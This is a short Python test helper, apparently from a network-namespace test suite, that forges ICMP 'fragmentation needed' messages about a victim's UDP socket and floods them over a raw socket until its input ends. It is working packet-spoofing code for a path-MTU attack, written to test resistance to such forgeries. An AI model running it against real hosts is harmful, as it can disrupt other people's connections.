"""Forges ICMP "fragmentation needed" about datagrams of a socket that it knows by address and port alone.

    python -m tests.netns.forger 10.77.1.1 4433 10.77.2.1

Needs a raw socket. Prints a line after the first, forges until its standard input ends, then prints how many.
"""

from __future__ import annotations

import select
import socket
import struct
import sys

BURST = 100
FRAGMENTATION_NEEDED = (3, 4)


def checksum(data: bytes) -> bytes:
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)


def message(victim: str, port: int, destination: str) -> bytes:
    """RFC 792: the message, and the head of a datagram that ``victim`` never sent."""
    addresses = socket.inet_aton(victim) + socket.inet_aton(destination)
    header = struct.pack("!BBHHHBBH", 0x45, 0, 1528, 1, 0x4000, 64, socket.IPPROTO_UDP, 0) + addresses
    header = header[:10] + checksum(header) + header[12:]
    forged = struct.pack("!BBHHH", *FRAGMENTATION_NEEDED, 0, 0, 1300) + header + struct.pack("!HHHH", port, 9, 1508, 0)
    return forged[:2] + checksum(forged) + forged[4:]


def say(line: str) -> None:
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


def main() -> None:
    victim, port, destination = sys.argv[1:]
    forged = message(victim, int(port), destination)
    count = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        while not select.select([sys.stdin], [], [], 0)[0]:
            for _ in range(BURST):
                raw.sendto(forged, (victim, 0))
            if not count:
                say("begun")
            count += BURST
    say(f"{count}")


if __name__ == "__main__":
    main()
